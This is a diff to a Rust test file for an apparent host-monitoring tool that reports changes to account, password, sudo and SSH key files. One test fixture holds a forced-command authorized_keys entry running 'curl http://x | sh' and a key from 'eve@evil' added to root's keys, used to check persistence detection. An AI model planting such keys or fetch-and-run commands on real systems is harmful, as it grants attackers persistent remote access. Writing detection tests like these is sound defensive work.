@@ -123,6 +123,34 @@ fn rules_of_sudo_are_told_in_words() {
     tests::check("/etc/sudoers", "root ALL=(ALL) ALL\n", "root ALL=(ALL) ALL\n# a word\n", &[]);
 }
 
+#[test]
+fn renaming_unlocking_and_expiry_are_told_as_what_they_are() {
+    check(
+        "/etc/passwd",
+        "al:x:1000:1000::/home/al:/bin/sh\n",
+        "bo:x:1000:1000::/home/al:/bin/sh\n",
+        &["account.changed medium: Account al was renamed: it is bo now"],
+    );
+    let shadow = |password: &str, end: &str| format!("al:{password}:20000:0:99999:7::{end}:\n");
+    for (before, after, said) in [
+        (
+            ("!$y$h", ""),
+            ("$y$h", ""),
+            "account.locked low: The password of al was unlocked: it is the one of before",
+        ),
+        (("!", ""), ("$y$h", ""), "account.changed low: Account al may log in by password now"),
+        (
+            ("$y$h", ""),
+            ("$y$h", "1"),
+            "account.locked low: Account al has expired: nobody may log in as al any more",
+        ),
+        (("$y$h", ""), ("$y$h", "20454"), "account.changed low: Account al expires on 2026-01-01 now"),
+        (("$y$h", "1"), ("$y$h", ""), "account.changed low: Account al does not expire any more"),
+    ] {
+        check("/etc/shadow", &shadow(before.0, before.1), &shadow(after.0, after.1), &[said]);
+    }
+}
+
 const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIIHeZGGCDNLDmcG5uzXZfGmxNKz2+sFhsvBPxCyGJRzo";
 
 #[test]
@@ -135,10 +163,7 @@ fn a_key_is_named_by_its_fingerprint_and_whose_account_it_opens() {
             && words.ends_with(" (eve@evil) was added to root's authorized_keys"),
         "{words}"
     );
-    assert_eq!(
-        (found.statements[0].rule, found.statements[0].technique),
-        ("persistence.ssh-key", "T1098.004")
-    );
+    assert_eq!((found.statements[0].rule, found.statements[0].technique), ("account.key-added", "T1098.004"));
     assert_eq!(found.users, ["root"]);
     let forced = format!("command=\"curl http://x | sh\",no-pty ssh-ed25519 {KEY}\n");
     let words = said(&edited("/home/alice/.ssh/authorized_keys", None, forced.as_bytes())).remove(0);
